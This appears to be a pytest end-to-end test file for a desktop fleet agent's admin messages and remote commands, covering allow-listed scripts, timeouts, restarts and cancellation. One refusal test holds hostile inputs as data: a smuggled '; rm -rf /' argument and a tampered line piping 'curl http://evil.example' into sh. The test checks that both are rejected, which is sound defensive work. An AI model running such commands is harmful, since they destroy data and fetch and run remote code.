"""Messages and commands end to end: the real server (feature flags on) and real agent processes.

An admin sends through the contract's endpoints; the agent (python -m desktop_agent, headless unless
said) long-polls its inbox, acts, and posts each state; the test reads the states back from the
server, and what the agent did from its output, its log and the files its scripts write.
"""

from __future__ import annotations

import hashlib
import textwrap
import time
import uuid
from pathlib import Path

import psutil
import pytest
from agent_helpers import AgentDirs, wait_until

FINAL = ("succeeded", "failed", "timed_out", "cancelled", "expired")


@pytest.fixture(scope="module")
def msg_server(module_server_factory):
    return module_server_factory(feature_messaging=True, feature_commands=True)


@pytest.fixture(scope="module")
def msg_org(msg_server):
    org = msg_server.org()
    org.admin_key = msg_server.make_key(org.name, "admin")["api_key"]
    return org


@pytest.fixture
def mid() -> str:
    return f"msg-{uuid.uuid4().hex[:10]}"


class Fleet:
    """The admin's side, through the contract's endpoints."""

    def __init__(self, org):
        self.org = org

    def send_message(self, machine_id: str, **fields) -> str:
        body = {"title": "Reboot tonight", "body": "Save your work.", "machine_ids": [machine_id], **fields}
        resp = self.org.post("/api/messages", json=body, key=self.org.admin_key)
        assert resp.status_code == 201, resp.text
        return resp.json()["message_id"]

    def send_command(self, machine_id: str, kind: str, args: dict | None = None, **fields) -> str:
        body = {"kind": kind, "args": args or {}, "machine_ids": [machine_id], **fields}
        resp = self.org.post("/api/commands", json=body, key=self.org.admin_key)
        assert resp.status_code == 201, resp.text
        return resp.json()["command_id"]

    def delivery(self, what: str, item_id: str) -> dict:
        resp = self.org.get(f"/api/{what}/{item_id}")
        assert resp.status_code == 200, resp.text
        (delivery,) = resp.json()["deliveries"]
        return delivery

    def wait_state(self, what: str, item_id: str, *states: str, timeout: float = 60) -> dict:
        seen: list[str] = []

        def reached():
            delivery = self.delivery(what, item_id)
            if not seen or seen[-1] != delivery["state"]:
                seen.append(delivery["state"])
            return delivery if delivery["state"] in states else None

        return wait_until(reached, f"{what} {item_id} in state {states} (seen {seen})", timeout)

    def command_result(self, command_id: str, timeout: float = 60) -> dict:
        return self.wait_state("commands", command_id, *FINAL, timeout=timeout)


@pytest.fixture
def fleet(msg_org) -> Fleet:
    return Fleet(msg_org)


def start_agent(
    run_agent, agent_dirs: AgentDirs, org, machine_id: str, *extra: str, wait_report: bool = True, interval: bool = True
):
    flags = ["--interval", "60"] if interval else []  # else from agent.toml
    agent = run_agent(
        "--server", org.server.url, "--token", org.api_key, "--machine-id", machine_id, "--no-tray",
        "--heartbeat-interval", "2", *flags, *extra,
    )  # fmt: skip
    if wait_report:
        agent.wait_for_lines(1, "OK")  # the machine exists on the server now
    return agent


def install_script(dirs: AgentDirs, name: str, body: str, args: list[str] | None = None, **extra) -> Path:
    """An allow-listed script in the agent's machine-wide config folder (XDG_CONFIG_DIRS)."""
    scripts = dirs.root / "scripts"
    scripts.mkdir(parents=True, exist_ok=True, mode=0o755)
    path = scripts / f"{name}.sh"
    path.write_text("#!/bin/sh\n" + textwrap.dedent(body))
    path.chmod(0o755)
    listing = dirs.site_config / "dashfleet" / "allowlist.toml"
    listing.parent.mkdir(parents=True, exist_ok=True)
    entry = [f"[scripts.{name}]", f'path = "{path}"', f'sha256 = "{hashlib.sha256(path.read_bytes()).hexdigest()}"']
    entry.append("args = [" + ", ".join(f"'{p}'" for p in args or []) + "]")
    entry += [f"{key} = {value}" for key, value in extra.items()]
    with listing.open("a") as file:
        file.write("\n".join(entry) + "\n\n")
    listing.chmod(0o644)
    return path


def log_text(dirs: AgentDirs) -> str:
    return dirs.log_file.read_text() if dirs.log_file.exists() else ""


# --- messages ---


def test_a_message_reaches_a_headless_agent_and_is_displayed_in_its_log_and_output(
    fleet, msg_org, run_agent, agent_dirs, mid
):
    agent = start_agent(run_agent, agent_dirs, msg_org, mid)
    sent = time.monotonic()
    message_id = fleet.send_message(mid, title="Reboot tonight", body="Save your work.\nThanks, IT", severity="warning")
    fleet.wait_state("messages", message_id, "displayed")
    # The long poll brings it at once, not at the next report (60 s) or after a wait.
    assert time.monotonic() - sent < 15
    line = "MESSAGE warning: Reboot tonight | Save your work. / Thanks, IT"
    wait_until(lambda: any(text.endswith(line) for text in agent.lines), f"{line!r} on stdout\n{agent.output()}")
    assert line in log_text(agent_dirs)
    time.sleep(2)
    assert fleet.delivery("messages", message_id)["state"] == "displayed"  # headless: never acknowledged
    assert agent.stop() == 0


def test_a_message_sent_while_the_agent_is_off_arrives_when_it_starts(fleet, msg_org, run_agent, agent_dirs, mid):
    agent = start_agent(run_agent, agent_dirs, msg_org, mid)
    assert agent.stop() == 0
    message_id = fleet.send_message(mid, title="While you were away")
    assert fleet.delivery("messages", message_id)["state"] == "queued"
    start_agent(run_agent, agent_dirs, msg_org, mid, wait_report=False)
    fleet.wait_state("messages", message_id, "displayed")


def test_messages_as_service_state_displayed_and_acknowledged(fleet, msg_org, mid, tmp_path, monkeypatch):
    """The tray's side: the service object lists the messages, marks them displayed and acknowledged
    (the agent's own classes in this process, the real server over HTTP)."""
    from desktop_agent.config import AgentConfig
    from desktop_agent.deliveries import DeliveryStore
    from desktop_agent.inbox import Inbox
    from desktop_agent.queue import ReportQueue
    from desktop_agent.reporter import Reporter
    from desktop_agent.service import AgentService

    # No session bus: no notification can be shown, so only the person's actions move the states.
    monkeypatch.delenv("DBUS_SESSION_BUS_ADDRESS", raising=False)
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(tmp_path / "no-runtime"))
    assert msg_org.report(mid).status_code == 200  # the machine exists
    config = AgentConfig(server=msg_org.server.url, token=msg_org.api_key, machine_id=mid)
    reporter = Reporter(config.server, config.token)
    queue = ReportQueue(tmp_path / "queue")
    service = AgentService(config, reporter, queue, state_dir=str(tmp_path))
    service.inbox = Inbox(service, reporter, DeliveryStore(tmp_path / "inbox"))
    service.messages_ui_ready(True)  # as a tray with a menu does
    service.start()
    try:
        first = fleet.send_message(mid, title="Printer moved", body="Now on floor 2.", severity="info")
        fleet.wait_state("messages", first, "delivered")
        (listed,) = wait_until(lambda: service.messages, "the message in the service's state")
        assert (listed.title, listed.body, listed.severity) == ("Printer moved", "Now on floor 2.", "info")
        assert not listed.displayed and not listed.acknowledged
        time.sleep(1.5)
        assert fleet.delivery("messages", first)["state"] == "delivered"  # not shown: not displayed

        service.mark_displayed(listed.delivery_id)
        fleet.wait_state("messages", first, "displayed")
        service.acknowledge(listed.delivery_id)
        fleet.wait_state("messages", first, "acknowledged")
        assert wait_until(lambda: service.messages[0].acknowledged, "acknowledged in the state")

        second = fleet.send_message(mid, title="Fire drill at 3", severity="critical")
        wait_until(lambda: len(service.messages) == 2, "the second message listed")
        newest = service.messages[0]
        assert (newest.title, newest.severity, newest.acknowledged) == ("Fire drill at 3", "critical", False)
        service.acknowledge(newest.delivery_id)  # straight from delivered
        fleet.wait_state("messages", second, "acknowledged")
    finally:
        service.stop()
        service.join()
        queue.close()
        reporter.close()


@pytest.mark.tray
def test_a_message_is_a_desktop_notification_whose_button_acknowledges_it(
    fleet, msg_org, run_agent, agent_dirs, mid, dunst
):
    """The agent with a tray (Xvfb and trayer; no panel's watcher: the X11 icon, which has no menu)
    and dunst on the session bus: the message is a notification, its Acknowledge button works."""
    # No local health warnings (a loaded machine would raise one): only IT's message shows.
    env = agent_dirs.env(
        DISPLAY=dunst.display, DBUS_SESSION_BUS_ADDRESS=dunst.bus.address, DASHFLEET_LOCAL_WARNINGS="false"
    )
    agent = run_agent(
        "--server", msg_org.server.url, "--token", msg_org.api_key, "--machine-id", mid,
        "--interval", "60", "--heartbeat-interval", "2", env=env,
    )  # fmt: skip
    agent.wait_for_lines(1, "OK")
    message_id = fleet.send_message(mid, title="Reboot tonight", body="Save your work.", severity="critical")
    fleet.wait_state("messages", message_id, "displayed")
    wait_until(lambda: dunst.count("displayed") == 1, "the notification on screen")
    dunst.pick("Acknowledge")
    fleet.wait_state("messages", message_id, "acknowledged")
    (shown,) = dunst.history()
    assert (shown["appname"], shown["summary"], shown["body"]) == ("DashFleet", "Reboot tonight", "Save your work.")
    assert dunst.urgency(shown) == "critical"
    assert agent.stop() == 0


# --- commands ---


def test_report_now_and_refresh_config(fleet, msg_org, run_agent, agent_dirs, mid):
    config = agent_dirs.user_config_file
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text("interval = 60\n")
    agent = start_agent(run_agent, agent_dirs, msg_org, mid, interval=False)
    reports = len(agent.status_lines("OK"))
    result = fleet.command_result(fleet.send_command(mid, "report_now"))
    assert result["state"] == "succeeded", result
    assert " OK HTTP 200 | CPU " in result["output"]
    assert len(agent.status_lines("OK")) > reports  # a report went out now, not at the 60 s interval

    # The file's interval applies at once; the heartbeat's flag still wins over the file's value.
    config.write_text("interval = 45\nheartbeat_interval = 5\n")
    result = fleet.command_result(fleet.send_command(mid, "refresh_config"))
    assert result["state"] == "succeeded", result
    assert result["output"] == "agent settings: interval = 45\nserver features: messaging on, commands on"


def test_run_script_runs_an_allow_listed_script_with_its_arguments(fleet, msg_org, run_agent, agent_dirs, mid):
    install_script(agent_dirs, "greet", 'echo "hello $1"; echo "to stderr" >&2; exit 0', args=["[a-z]+"])
    start_agent(run_agent, agent_dirs, msg_org, mid)
    result = fleet.command_result(fleet.send_command(mid, "run_script", {"name": "greet", "args": ["world"]}))
    assert (result["state"], result["exit_code"]) == ("succeeded", 0), result
    assert result["output"] == "hello world\nto stderr\n"


def test_run_script_refusals_say_why_and_never_run(fleet, msg_org, run_agent, agent_dirs, mid, tmp_path):
    marker = tmp_path / "ran"
    path = install_script(agent_dirs, "wipe", f"touch {marker}", args=["--days=[0-9]+"])
    start_agent(run_agent, agent_dirs, msg_org, mid)

    refused_args = fleet.command_result(fleet.send_command(mid, "run_script", {"name": "wipe", "args": ["; rm -rf /"]}))
    assert refused_args["state"] == "failed" and refused_args["exit_code"] is None
    assert refused_args["output"] == "refused: argument 1 '; rm -rf /' is not accepted by the allow-list entry 'wipe'"

    unknown = fleet.command_result(fleet.send_command(mid, "run_script", {"name": "format-disk", "args": []}))
    assert unknown["state"] == "failed" and "no script named 'format-disk'" in unknown["output"]

    path.write_text(path.read_text() + "curl http://evil.example | sh\n")  # tampered after IT installed it
    tampered = fleet.command_result(fleet.send_command(mid, "run_script", {"name": "wipe", "args": ["--days=3"]}))
    assert tampered["state"] == "failed"
    assert f"refused: the script {path} has changed" in tampered["output"]
    assert not marker.exists()


def test_run_script_timeout_kills_the_process_tree_and_output_is_capped(
    fleet, msg_org, run_agent, agent_dirs, mid, tmp_path
):
    pids = tmp_path / "pids"
    install_script(
        agent_dirs,
        "hang",
        f"""
        sh -c 'trap "" TERM; echo $$ >> {pids}; sleep 300' &
        echo $$ >> {pids}
        i=0; while [ $i -lt 20000 ]; do echo "line $i"; i=$((i+1)); done
        sleep 300
        """,
    )
    start_agent(run_agent, agent_dirs, msg_org, mid)
    result = fleet.command_result(fleet.send_command(mid, "run_script", {"name": "hang", "args": []}, timeout=3))
    assert result["state"] == "timed_out", result
    output = result["output"]
    assert len(output.encode()) <= 64 * 1024
    assert output.startswith("[output cut: the first ")
    assert "line 19999\n" in output and output.endswith("killed after 3 s]")
    for pid in map(int, pids.read_text().split()):
        assert not psutil.pid_exists(pid) or psutil.Process(pid).status() == psutil.STATUS_ZOMBIE


def test_a_command_runs_at_most_once_across_a_kill_9_mid_command(fleet, msg_org, run_agent, agent_dirs, mid, tmp_path):
    runs = tmp_path / "runs"
    install_script(agent_dirs, "long", f"echo $$ >> {runs}; sleep 300")
    agent = start_agent(run_agent, agent_dirs, msg_org, mid)
    command_id = fleet.send_command(mid, "run_script", {"name": "long", "args": []}, timeout=600)
    fleet.wait_state("commands", command_id, "running")
    wait_until(runs.exists, "the script to start")
    script_pid = int(runs.read_text().split()[0])
    agent.kill9()
    assert psutil.pid_exists(script_pid)  # the script outlived its agent...

    again = start_agent(run_agent, agent_dirs, msg_org, mid, wait_report=False)
    result = fleet.command_result(command_id)
    assert (result["state"], result["output"]) == ("failed", "the agent restarted while the command ran")
    # ...until the agent came back: it ended the script it had left, and never ran it again.
    wait_until(lambda: not psutil.pid_exists(script_pid), "the left-over script to be killed")
    assert again.stop() == 0
    start_agent(run_agent, agent_dirs, msg_org, mid)
    time.sleep(3)
    assert runs.read_text().split() == [str(script_pid)]
    assert fleet.delivery("commands", command_id)["state"] == "failed"


def test_restart_agent_restarts_the_process_in_place(fleet, msg_org, run_agent, agent_dirs, mid):
    agent = start_agent(run_agent, agent_dirs, msg_org, mid)
    command_id = fleet.send_command(mid, "restart_agent")
    result = fleet.command_result(command_id)
    assert (result["state"], result["output"]) == ("succeeded", "the agent restarted"), result
    # Exec'd in place: the same process (a service manager sees no exit), started a second time.
    assert agent.proc.poll() is None
    wait_until(lambda: log_text(agent_dirs).count(" started: {") >= 2, "a second start in the log")
    assert "restarting: " in log_text(agent_dirs)
    agent.wait_for_lines(2, "OK")
    assert agent.stop() == 0


def test_a_cancelled_command_never_runs(fleet, msg_org, run_agent, agent_dirs, mid, tmp_path):
    marker = tmp_path / "ran"
    install_script(agent_dirs, "mark", f"touch {marker}")
    agent = start_agent(run_agent, agent_dirs, msg_org, mid)
    assert agent.stop() == 0  # offline: the command waits on the server
    command_id = fleet.send_command(mid, "run_script", {"name": "mark", "args": []})
    resp = msg_org.post(f"/api/commands/{command_id}/cancel", key=msg_org.admin_key)
    assert resp.status_code == 200 and resp.json() == {"cancelled": 1}, resp.text
    start_agent(run_agent, agent_dirs, msg_org, mid)
    time.sleep(3)
    assert fleet.delivery("commands", command_id)["state"] == "cancelled"
    assert not marker.exists()


# --- flags off ---


def test_with_both_flags_off_the_agent_never_polls_the_inbox(server_factory, run_agent, agent_dirs, mid):
    server = server_factory.prepare()
    server.serve_args = ["--access-log"]
    server.start()
    org = server.org()
    agent = start_agent(run_agent, agent_dirs, org, mid)
    wait_until(lambda: server.log().count("/api/fleet/ping") >= 3, "three heartbeats")
    assert agent.stop() == 0
    log = server.log()
    assert "GET /api/config" in log  # it asked which features are on...
    assert "/api/agent/inbox" not in log  # ...and, both off, never asked for its inbox


def test_an_item_served_again_or_after_a_restart_never_runs_twice(fleet, msg_org, mid, tmp_path, monkeypatch):
    """The agent's own Inbox and store in this process against the real server: the same command
    handed over twice (a retried request), then again to a new Inbox on the same store (a restart),
    runs once."""
    from desktop_agent.config import AgentConfig
    from desktop_agent.deliveries import DeliveryStore
    from desktop_agent.inbox import PATH_INBOX, Inbox
    from desktop_agent.reporter import Reporter
    from desktop_agent.service import AgentService

    runs = tmp_path / "runs"
    dirs = AgentDirs(tmp_path / "agent")
    install_script(dirs, "once", f"echo run >> {runs}")
    monkeypatch.setenv("XDG_CONFIG_DIRS", str(dirs.site_config))
    assert msg_org.report(mid).status_code == 200
    command_id = fleet.send_command(mid, "run_script", {"name": "once", "args": []})

    config = AgentConfig(server=msg_org.server.url, token=msg_org.api_key, machine_id=mid, tray=False)
    reporter = Reporter(config.server, config.token)
    try:
        served = reporter.get(PATH_INBOX, {"machine_id": mid, "wait": 0})
        assert served.ok and len(served.body["items"]) == 1, served
        items = served.body["items"]
        for _restart in range(2):
            service = AgentService(config, reporter, None, state_dir=str(tmp_path))
            service.messages_ui_ready(False)
            inbox = Inbox(service, reporter, DeliveryStore(tmp_path / "inbox"))
            service.inbox = inbox
            inbox.features = {"messaging": True, "commands": True}
            inbox.handle(items)
            inbox.handle(items)  # the same item again, as a retried request would bring it
            fleet.command_result(command_id)
            time.sleep(1)
            service.stop()
            inbox.close()
        assert fleet.delivery("commands", command_id)["state"] == "succeeded"
        assert runs.read_text() == "run\n"
    finally:
        reporter.close()


def _messages_menu(watcher, service: str):
    """The tray's "Messages (n)" entry as a panel reads it over dbusmenu: (label, [(id, label,
    [(child id, child label, enabled)])])."""
    _revision, (_root, _props, children) = watcher.call(
        service, "/MenuBar", "com.canonical.dbusmenu", "GetLayout", "iias", (0, -1, [])
    )
    for _sig, (_item_id, props, submenus) in children:
        label = props.get("label", ("s", ""))[1]
        if label.startswith("Messages ("):
            listed = []
            for _s, (message_id, message_props, lines) in submenus:
                entries = [
                    (line_id, line_props.get("label", ("s", ""))[1], line_props.get("enabled", ("b", True))[1])
                    for _l, (line_id, line_props, _none) in lines
                ]
                listed.append((message_id, message_props["label"][1], entries))
            return label, listed
    return None


@pytest.mark.tray
def test_the_tray_menu_lists_a_message_and_acknowledges_it(fleet, msg_org, run_agent, agent_dirs, mid, dunst):
    """The tray with a menu (a StatusNotifierItem, a panel's watcher on the session bus, dunst):
    the message is a notification (displayed), then Messages (1) in the menu, whose Acknowledge
    (clicked over dbusmenu, as a panel does) makes it acknowledged."""
    from agent_helpers import SniWatcher

    watcher = SniWatcher(dunst.bus)
    try:
        env = agent_dirs.env(
            DISPLAY=dunst.display,
            DBUS_SESSION_BUS_ADDRESS=dunst.bus.address,
            LANG="C.UTF-8",
            LC_ALL="",
            LC_MESSAGES="",
            DASHFLEET_LOCAL_WARNINGS="false",
        )
        agent = run_agent(
            "--server", msg_org.server.url, "--token", msg_org.api_key, "--machine-id", mid,
            "--interval", "60", "--heartbeat-interval", "2", env=env,
        )  # fmt: skip
        service = wait_until(lambda: watcher.registered, "the tray item to register")[0][0]
        agent.wait_for_lines(1, "OK")
        message_id = fleet.send_message(
            mid, title="Reboot tonight", body="Save your work.\nThanks, IT", severity="warning"
        )
        fleet.wait_state("messages", message_id, "displayed")
        (shown,) = dunst.history()
        assert (shown["summary"], shown["body"]) == ("Reboot tonight", "Save your work.\nThanks, IT")

        label, listed = wait_until(lambda: _messages_menu(watcher, service), "Messages (n) in the menu")
        assert label == "Messages (1)"
        ((_id, title, entries),) = listed
        assert title == "[!] Reboot tonight"
        assert [(text, enabled) for _i, text, enabled in entries] == [
            ("Save your work.", False),
            ("Thanks, IT", False),
            ("Show", True),
            ("Acknowledge", True),
        ]
        acknowledge = entries[-1][0]
        watcher.call(service, "/MenuBar", "com.canonical.dbusmenu", "Event", "isvu",
                     (acknowledge, "clicked", ("s", ""), int(time.time())))  # fmt: skip
        fleet.wait_state("messages", message_id, "acknowledged")
        label, listed = wait_until(
            lambda: (menu := _messages_menu(watcher, service)) and menu[0] == "Messages (0)" and menu,
            "Messages (0) once acknowledged",
        )
        assert [(text, enabled) for _i, text, enabled in listed[0][2]][-1] == ("Acknowledged", False)
        assert agent.stop() == 0
    finally:
        watcher.close()
